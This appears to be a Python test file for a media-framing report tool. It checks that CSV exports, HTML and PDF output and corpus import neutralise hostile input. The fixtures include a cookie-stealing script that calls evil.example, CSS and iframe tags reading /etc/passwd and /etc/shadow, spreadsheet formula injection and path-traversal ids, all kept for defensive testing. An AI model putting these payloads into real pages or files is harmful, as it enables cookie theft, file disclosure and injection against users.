"""Hostile and odd corpora through `framing report` and `framing corpus import`: markup,
scripts and URLs in articles, formula-like outlet names in every CSV, path separators and
`..` in ids and outlet names, one outlet, one article, 500 outlets."""

from __future__ import annotations

import csv
import html
import html.parser
import re
import shutil
import socket
from pathlib import Path

import pytest

from framing.paths import DEFAULT_LEXICONS
from framing.reporting import pdf
from tests.test_hostile_input import (
    TABLES,
    TAIL,
    assert_no_traceback,
    corpus_with,
    front_matter,
    invoke,
    read_table,
    tree,
)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SCRIPT = "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>"
STYLE = ("<style>@import url(http://evil.example/x.css); body { background: "
         "url(file:///etc/passwd) }</style>")
MARKUP = ('<img src="http://evil.example/pixel.png" onerror="alert(1)"> '
          '<link rel="stylesheet" href="http://evil.example/s.css"> '
          '<iframe src="file:///etc/shadow"></iframe> <a href="javascript:alert(2)">x</a>')
# (id, outlet, headline): formula starts, markup and path tricks in every field.
ROWS = [
    ("=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"click")', "=SUM(A1:A9) failures"),
    ("-2+3", "+44 Daily", "+1 survivors' voices"),
    ("@cmd", "-Minus Times", "-1 for the council"),
    ("../../evil", "@Mention Weekly", "@everyone the inquiry"),
    ("a/b\\c", f"{SCRIPT} News", f"<b>bold</b> {SCRIPT}"),
    ("..\\..\\win", "../../etc/Evil Outlet", "\tTabbed headline"),
]
HOSTILE_LEXICON = """\
name: hostile
description: Terms that look like spreadsheet formulas.
categories:
  - name: formulae
terms:
  formulae:
    - term: "=cmd"
      label: "=cmd (a formula)"
    - term: "-exploit"
"""


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)


def parse_html(text: str) -> _Tags:
    parser = _Tags()
    parser.feed(text)
    return parser


def assert_no_formula_cells(folder: Path) -> int:
    """No cell in any of the five tables starts like a formula, except numbers the tool
    wrote (-0.25). Returns the number of neutralised cells seen."""
    neutralised = 0
    for name in TABLES:
        for row in read_table(folder / name):
            for column, cell in row.items():
                if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                    neutralised += 1
                if cell.startswith(FORMULA_STARTS):
                    try:
                        float(cell)
                    except ValueError:
                        pytest.fail(f"{name} {column}: {cell!r} would run as a formula")
    return neutralised


def hostile_table(tmp_path: Path) -> Path:
    table = tmp_path / "raw" / "hostile.csv"
    table.parent.mkdir()
    with table.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "outlet", "headline", "url", "text"])
        for number, (article_id, outlet, headline) in enumerate(ROWS):
            body = (f"{SCRIPT} Officers ignored abuse in the home. {STYLE}\n\n"
                    f"See file:///etc/passwd and http://evil.example/track.png {MARKUP}\n\n"
                    f"Type =cmd or -exploit to run it. {TAIL} Article {number}.")
            writer.writerow([article_id, outlet, headline, f"file:///etc/{number}", body])
    return table


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """Import the hostile table, then report on the import with network access blocked and
    the PDF's URL fetcher watched. Returns (folder, result, fetchers, tree before)."""
    root = tmp_path_factory.mktemp("hostile")
    table = hostile_table(root)
    raw = tree(table.parent)
    imported = invoke("corpus", "import", table, "-o", root / "imported")
    assert imported.exit_code == 0, imported.output
    assert tree(table.parent) == raw
    lexicons = root / "lexicons"
    shutil.copytree(DEFAULT_LEXICONS, lexicons)
    (lexicons / "hostile.yaml").write_text(HOSTILE_LEXICON, encoding="utf-8")
    before = tree(root)

    fetchers = []
    real_fetcher = pdf.make_url_fetcher

    def watched_fetcher():
        fetcher = real_fetcher()
        fetchers.append(fetcher)
        return fetcher

    def no_network(*args, **kwargs):
        raise AssertionError(f"network access: {args!r}")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pdf, "make_url_fetcher", watched_fetcher)
        patch.setattr(socket.socket, "connect", no_network)
        patch.setattr(socket, "create_connection", no_network)
        result = invoke("report", root / "imported", "-o", root / "out" / "report.pdf",
                        "--lexicons", lexicons, "--no-cache", "--quiet")
    return root, result, fetchers, before


def test_import_never_writes_outside_the_output_folder(hostile_run):
    root, _result, _fetchers, before = hostile_run
    written = sorted(p.name for p in (root / "imported").iterdir())
    assert written == sorted([".import-log.yaml", "corpus.yaml", "1-1.md", "2-3.md", "cmd.md",
                              "evil.md", "a-b-c.md", "win.md"])
    outside = {name for name in before if not name.startswith(("imported/", "raw/",
                                                               "lexicons/"))}
    assert outside == set()
    for folder in (root, root.parent, root.parent.parent):  # where "../../evil" would land
        assert not list(folder.glob("evil*")) and not list(folder.glob("win*"))


def test_ids_and_outlets_survive_the_import_unchanged(hostile_run):
    root, result, _fetchers, _before = hostile_run
    assert result.exit_code == 0, result.output
    articles = read_table(root / "out" / "report-data" / "articles.csv")

    def shown(value: str) -> str:
        value = " ".join(value.split())
        return "'" + value if value.startswith(FORMULA_STARTS) else value

    assert sorted((a["id"], a["outlet"], a["headline"]) for a in articles) == sorted(
        (shown(i), shown(o), shown(h)) for i, o, h in ROWS)


def test_report_writes_only_its_own_files(hostile_run):
    root, result, _fetchers, before = hostile_run
    assert_no_traceback(result)
    after = tree(root)
    assert {k: v for k, v in after.items() if k in before} == before  # inputs unchanged
    new = sorted(set(after) - set(before))
    assert new == ["out/report-data/" + name for name in TABLES] + [
        "out/report.html", "out/report.pdf"]


def test_every_csv_cell_that_looks_like_a_formula_is_neutralised(hostile_run):
    root, _result, _fetchers, _before = hostile_run
    data = root / "out" / "report-data"
    assert assert_no_formula_cells(data) > 0
    outlets = {row["outlet"] for row in read_table(data / "outlets.csv")}
    assert "'" + ROWS[0][1] in outlets and "'+44 Daily" in outlets
    mentions = read_table(data / "mentions.csv")
    assert {("'=cmd (a formula)", "'=cmd"), ("'-exploit", "'-exploit")} <= {
        (m["term"], m["text"]) for m in mentions}
    terms = {row["outlet"] for row in read_table(data / "terms.csv")}
    assert "'@Mention Weekly" in terms and "'-Minus Times" in terms
    sentence_ids = {row["article_id"] for row in read_table(data / "sentences.csv")}
    assert {"'=1+1", "'-2+3", "'@cmd"} <= sentence_ids


def test_html_shows_markup_from_the_articles_as_text(hostile_run):
    root, _result, _fetchers, _before = hostile_run
    document = (root / "out" / "report.html").read_text(encoding="utf-8")
    parsed = parse_html(document)
    for tag, attributes in parsed.tags:
        assert tag not in {"script", "img", "iframe", "link", "object", "embed", "b"}, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in {"src", "href", "xlink:href"}:
                assert value and value.startswith("#"), (tag, name, value)
    assert not any("evil.example" in style or "/etc/" in style for style in parsed.styles)
    assert "&lt;script&gt;fetch(" in document  # in the outlet name, as text


def test_pdf_fetches_only_its_own_files(hostile_run):
    root, _result, fetchers, _before = hostile_run
    data = (root / "out" / "report.pdf").read_bytes()
    assert data.startswith(b"%PDF-") and b"%%EOF" in data[-64:]
    assert fetchers, "the PDF was not laid out with the local-only fetcher"
    roots = pdf.allowed_roots()
    for fetcher in fetchers:
        assert fetcher.refused == []  # nothing from the articles even asked for a URL
        for served in fetcher.served:
            assert served == "data:" or any(Path(served).is_relative_to(r) for r in roots)
    assert "document.cookie" in pdf_text(root / "out" / "report.pdf")  # printed as words


# --------------------------------------------------------------------------- small corpora


def visible_text(document: str) -> str:
    """The words of an HTML document, entities decoded, white space collapsed."""
    document = re.sub(r"<(svg|style)\b.*?</\1>", " ", document, flags=re.S)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", document)).split())


def pdf_text(path: Path) -> str:
    pypdf = pytest.importorskip("pypdf")
    reader = pypdf.PdfReader(str(path))
    return re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))


@pytest.mark.parametrize("articles", [1, 2])
def test_a_report_on_one_outlet_says_comparison_needs_two(tmp_path, articles):
    files = {f"a{i}.md": front_matter(headline=f"Council failings {i}")
             + f"Survivors were heard at last, {i} years on. {TAIL}" for i in range(articles)}
    corpus = corpus_with(tmp_path, files, other=False)
    pdf_path = tmp_path / "out" / "r.pdf"
    result = invoke("report", corpus, "-o", pdf_path, "--no-cache", "--quiet")
    assert result.exit_code == 0, result.output
    text = visible_text((tmp_path / "out" / "r.html").read_text(encoding="utf-8"))
    said = ("The one article comes from Daily One." if articles == 1 else
            "come from one outlet, Daily One.")
    assert f"{said} Comparison needs two outlets or more" in text
    assert "nothing to compare its words with: comparison needs two outlets or more" in text
    if articles == 1:
        assert "(1 article, no interval)" in text  # no bootstrap interval from one article
    assert "Comparisonneedstwooutletsormore" in pdf_text(pdf_path)
    assert len(read_table(tmp_path / "out" / "r-data" / "outlets.csv")) == 1


def test_500_outlets_render_with_the_tail_grouped(tmp_path, monkeypatch):
    words = "council police survivors abuse ignored failings inquiry report gangs victims court"
    pool = words.split()
    files = {}
    for i in range(500):
        chosen = " ".join(pool[(i + k) % len(pool)] for k in range(5))
        files[f"a{i:03d}.md"] = (front_matter(outlet=f"Outlet {i:03d} of the long tail",
                                              headline=f"Headline {i}")
                                 + f"The {chosen} said. Survivors were ignored.")
    corpus = corpus_with(tmp_path, files, other=False)
    reports = []

    def html_only(report, path, *, html=None):  # the PDF of 500 outlets takes about a minute
        reports.append(report)
        return path

    monkeypatch.setattr(pdf, "render_pdf", html_only)
    result = invoke("report", corpus, "-o", tmp_path / "out" / "r.pdf", "--no-cache", "--quiet")
    assert result.exit_code == 0, result.output
    (report,) = reports
    from framing.reporting.html import LINE_CHARACTERS, column_widths
    from framing.reporting.structure import Chart, Table

    charts, tables = [], []

    def walk(sections):
        for section in sections:
            charts.extend(b for b in section.blocks if isinstance(b, Chart))
            tables.extend(b for b in section.blocks if isinstance(b, Table))
            walk(section.subsections)

    walk(report.sections)
    assert charts
    for chart in charts:
        assert len(chart.categories) <= 26, (chart.id, len(chart.categories))
        grouped = chart.categories[-1] == "475 other outlets"
        assert grouped or "The 475 outlets with fewest articles are not drawn" in chart.caption
    scope = report.cover.scope_table
    assert len(scope.rows) == 26 and scope.rows[-1][:2] == ("475 other outlets", "475")
    by_outlet = [t for t in [scope, *tables] if t.columns and t.columns[0] == "Outlet"]
    assert by_outlet
    for table in by_outlet:  # the tables that grow with the outlets
        assert len(table.columns) <= 10, table.caption
        # Outlet names wrap between words, never inside one: the column holds "Outlet".
        line = LINE_CHARACTERS["wide"] if len(table.columns) > 7 else LINE_CHARACTERS.get(
            table.kind, 100)
        assert column_widths(table)[0] / 100 * line >= len("Outlet"), table.caption
    document = (tmp_path / "out" / "r.html").read_text(encoding="utf-8")
    assert all(f"Outlet {i:03d} of the long tail" in document for i in range(500))
    assert len(read_table(tmp_path / "out" / "r-data" / "outlets.csv")) == 500


def test_the_findings_on_one_article_read_as_english(tmp_path):
    from framing.corpus import load
    from framing.features.compute import compute
    from framing.lexicons import load_lexicons
    from framing.reporting.findings import key_findings

    corpus = load(corpus_with(tmp_path, {"a.md": front_matter() + TAIL}, other=False))
    findings = " ".join(key_findings(compute(corpus, lexicons=load_lexicons(), workers=1)))
    assert "The one article comes from Daily One." in findings
    assert "1 article come " not in findings
